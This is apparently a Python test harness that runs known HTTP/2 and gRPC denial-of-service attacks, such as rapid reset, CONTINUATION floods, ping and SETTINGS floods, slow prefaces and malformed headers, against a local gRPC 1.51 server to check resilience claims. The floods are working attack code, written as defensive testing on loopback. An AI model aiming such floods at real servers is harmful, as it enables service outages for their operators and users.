"""What SECURITY.md says of gRPC 1.51's weaknesses, and what broken clients see: attacks.py BUILD [NAME ...]

Each attack gets a server under the shipped limit of memory and a neighbour, and prints what became of both. Verdicts: "refused"
(the attacker is stopped), "bounded" (it is served, within the limit), "ended" (the limit of memory ended the server, which was
ready again after the time shown: a weakness that SECURITY.md names). Fails if an attack does better than is expected of it here.
All of it is bounded in time and talks to loopback only.
"""

import os
import pathlib
import random
import struct
import sys
import tempfile
import time

import wire
from cases_grpc import WATCH
from served import METHOD, MIB, SHIPPED_MIB, Neighbour, Server
from run import in_child, p99
from wire import Failed, expect, field

SECONDS = 5
CALL = METHOD + "HttpToGrpc"
REQUEST = field(1, 404)


def head(size=0, **changed):
    usual = {":method": "POST", ":scheme": "http", ":path": CALL, ":authority": "x", "content-type": "application/grpc",
             "te": "trailers", **changed}
    return wire.hpack([*usual.items(), *([("x-padding", "x" * size)] if size else [])])


def rapid_reset(server):
    """CVE-2023-44487: calls that are cancelled as soon as they begin."""
    block, sent = head(), 0
    with server.h2() as connection:
        connection.wait(lambda: connection.settings)
        end, number = time.monotonic() + SECONDS, 1
        while time.monotonic() < end and not connection.closed:
            out = b""
            for _ in range(200):
                out += wire.H2.frame(wire.HEADERS, wire.END_HEADERS, number, block)
                out += wire.H2.frame(wire.RST_STREAM, 0, number, struct.pack(">I", 8))
                number += 2
            connection.send_raw(out)
            connection.pump()
            sent += 200
    return f"{sent // SECONDS} resets a second"


def continuation_flood(server):
    """CVE-2023-33953: header frames that never end, 300 MiB."""
    piece = wire.hpack([("x-padding", "x" * 16000)])
    sent = 0
    with server.h2() as connection:
        connection.wait(lambda: connection.settings)
        connection.send_raw(wire.H2.frame(wire.HEADERS, 0, 1, head()))
        frame = wire.H2.frame(wire.CONTINUATION, 0, 1, piece)
        while sent < 300 * MIB and not connection.closed:
            connection.send_raw(frame * 16)
            sent += 16 * len(frame)
            connection.pump()
    return f"{sent / MIB:.0f} MiB sent"


def unfinished_messages(server):
    """Calls whose messages of 256 KiB never end: 100 on each of 12 connections."""
    message = b"\0" + (256 * 1024).to_bytes(4, "big") + b"x" * (256 * 1024 - 10)
    connections, sent = [], 0
    for _ in range(12):
        connection = server.h2(seconds=1)
        connections.append(connection)
        connection.wait(lambda: connection.settings)
        for _ in range(100):
            stream = connection.open(CALL)
            left, end = memoryview(message), time.monotonic() + 1
            while left and not connection.closed and not stream.done and time.monotonic() < end:
                size = min(len(left), wire.FRAME_BYTES, connection.window, stream.window)
                if size <= 0:
                    connection.pump(0.01)
                    continue
                connection.send_raw(wire.H2.frame(wire.DATA, 0, stream.number, bytes(left[:size])))
                left = left[size:]
                connection.window -= size
                stream.window -= size
                sent += size
    time.sleep(0.5)
    return f"{sent / MIB:.0f} MiB sent"


def ping_flood(server):
    sent = 0
    with server.h2() as connection:
        connection.wait(lambda: connection.settings)
        end = time.monotonic() + SECONDS
        while time.monotonic() < end and not connection.closed and not connection.goaway:
            connection.send_raw(wire.H2.frame(wire.PING, 0, 0, b"reliable") * 50)
            connection.pump()
            sent += 50
        expect(connection.closed or connection.goaway, "a flood of pings is cut")
    return f"cut after {sent} pings"


def settings_flood(server):
    with server.h2() as connection:
        connection.wait(lambda: connection.settings)
        end, sent = time.monotonic() + SECONDS, 0
        while time.monotonic() < end and not connection.closed:
            connection.send_raw(wire.H2.frame(wire.SETTINGS, 0, 0) * 100)
            connection.pump()
            sent += 100
    return f"{sent // SECONDS} frames a second"


def slow_prefaces(server):
    """1,000 connections that send half of the preface."""
    import contextlib
    with contextlib.ExitStack() as stack:
        held = [stack.enter_context(wire.connect(server.grpc, 9)) for _ in range(1000)]
        for sock in held:
            sock.sendall(wire.PREFACE[:12])
        began = time.monotonic()
        expect(all(wire.is_closed(sock, 7) for sock in held), "all are closed")
        return f"all 1,000 closed after {time.monotonic() - began:.1f} s"


def broken_headers(server):
    """Large headers and -bin headers that are no base64: CVE-2023-32732, and te: x with large ones: CVE-2023-1428."""
    ended = 0
    end = time.monotonic() + SECONDS
    kinds = [head(100 * 1024), head(**{"x-data-bin": "%%%"}), head(70 * 1024, te="x"), head(**{":path": "\xff" * 100})]
    while time.monotonic() < end:
        for block in kinds:
            with server.h2(seconds=0.3) as connection:
                connection.wait(lambda: connection.settings)
                parts = [block[i:i + wire.FRAME_BYTES] for i in range(0, len(block), wire.FRAME_BYTES)]
                for i, part in enumerate(parts):
                    connection.send_raw(wire.H2.frame(wire.CONTINUATION if i else wire.HEADERS,
                                                      wire.END_HEADERS if i == len(parts) - 1 else 0, 1, part))
                connection.wait(lambda: connection.goaway, 0.05)
                ended += 1
    return f"{ended // SECONDS} connections a second"


def wrong_requests(server):
    """Each gets the code of the gRPC protocol."""
    import gzip
    for what, stream, code in (
            ("malformed protobuf", server.call("HttpToGrpc", b"\xff\xff\xff"), wire.INTERNAL),
            ("an unknown method", server.call("/a.B/C", REQUEST), wire.UNIMPLEMENTED),
            ("a message of 4 MiB and a byte", server.call("HttpToGrpc", b"\0" * (4 * MIB + 1)), wire.RESOURCE_EXHAUSTED),
            ("a compressed bomb", server.call("HttpToGrpc", gzip.compress(b"\0" * (8 * MIB)), compressed=True,
                                              fields=[("grpc-encoding", "gzip")]), wire.UNIMPLEMENTED)):
        expect(stream.status == code, what, "expected", code, "got", stream)
    with server.h2() as connection:
        raw = [(":method", "POST"), (":scheme", "http"), (":path", CALL), (":authority", "x"), ("content-type", "text/html")]
        stream = connection.call(CALL, REQUEST, raw=raw)
        expect(stream.done or connection.closed, "a wrong Content-Type gets an end", stream)
    return "each gets its code"


def chaos(server):
    """Deadlines of a millisecond, cancelled calls, streams that end halfway, closed connections: counters add up afterwards."""
    chance = random.Random(1)
    begun, end = 0, time.monotonic() + SECONDS
    while time.monotonic() < end:
        connection = server.h2()
        for _ in range(chance.randrange(1, 80)):
            path = chance.choice([CALL, WATCH, METHOD + "Diagnose"])
            stream = connection.open(path, [("grpc-timeout", "1m")] if chance.random() < 0.3 else [])
            begun += 1
            act = chance.randrange(5)
            if act > 0:
                connection.send(stream, REQUEST if path == CALL else b"", end=act > 1)
            if act == 2:
                connection.cancel(stream)
            if act == 3:
                connection.pump()
        if chance.random() < 0.5:
            connection.wait(lambda: all(one.done for one in connection.streams.values()), 0.02)
        connection.close()

    def open_calls():
        samples = server.metrics()
        return sum(value * (1 if name.startswith("grpc_server_started") else -1) for name, value in samples.items()
                   if name.startswith(("grpc_server_started_total", "grpc_server_handled_total")))

    wire.wait_until(lambda: open_calls() == 0, "as many calls end as began", 8)
    return f"{begun // SECONDS} calls a second, all accounted for"


ATTACKS = {"rapid reset": (rapid_reset, ("bounded", "ended")), "CONTINUATION flood": (continuation_flood, ("refused", "ended")),
           "unfinished messages": (unfinished_messages, ("bounded", "ended")), "ping flood": (ping_flood, ("bounded",)),
           "SETTINGS flood": (settings_flood, ("bounded",)), "slow prefaces": (slow_prefaces, ("bounded",)),
           "broken headers": (broken_headers, ("bounded",)), "wrong requests": (wrong_requests, ("bounded",)),
           "client chaos": (chaos, ("bounded",))}


def restarted(build, address):
    """Seconds until a server answers again at an address."""
    with tempfile.TemporaryDirectory() as folder:
        began = time.monotonic()
        server = Server(build, folder, under_limit=False)
        try:
            expect(server.call("HttpToGrpc", REQUEST).status == wire.OK, "answers")
            return time.monotonic() - began
        finally:
            server.close()


def run(name, build):
    attack, expected = ATTACKS[name]
    with tempfile.TemporaryDirectory() as folder:
        server = Server(build, folder)
        neighbour = Neighbour(server.grpc)
        try:
            time.sleep(0.6)
            began = time.monotonic()
            said, error = "", None
            try:
                said = in_child(lambda: attack(server), 40)
            except Failed as failed:
                error = str(failed)
            ended = time.monotonic()
            lives = server.alive()
            verdict = "bounded" if lives else "ended"
            peak = server.peak()
            latencies = ""
            if lives:
                expect(error is None, name, error)
                calls, failure = neighbour.finish()
                quiet, during = p99(calls, (0, began)), p99(calls, (began, ended))
                latencies = f"neighbour p99 {during * 1000:.1f} ms, quiet {quiet * 1000:.1f}" if during else "neighbour: no answer"
                latencies += f", {failure}" if failure else ""
            else:
                latencies = f"ready again after {restarted(build, server.grpc) * 1000:.0f} ms"
            print(f"{name:20} {verdict:8} peak {peak:6.1f} MiB; {said or 'the connection ended'}; {latencies}", flush=True)
            expect(verdict in expected, name, "expected", expected, "but it", verdict)
        finally:
            neighbour.close()
            server.close()


def main():
    build, failed = pathlib.Path(sys.argv[1]).resolve(), 0
    print(f"limit of memory: {SHIPPED_MIB} MiB")
    for name in sys.argv[2:] or ATTACKS:
        try:
            run(name, build)
        except Failed as failure:
            print(f"FAILED: {failure}")
            failed = 1
    return failed


if __name__ == "__main__":
    os.environ.pop("LD_PRELOAD", None)
    sys.exit(main())
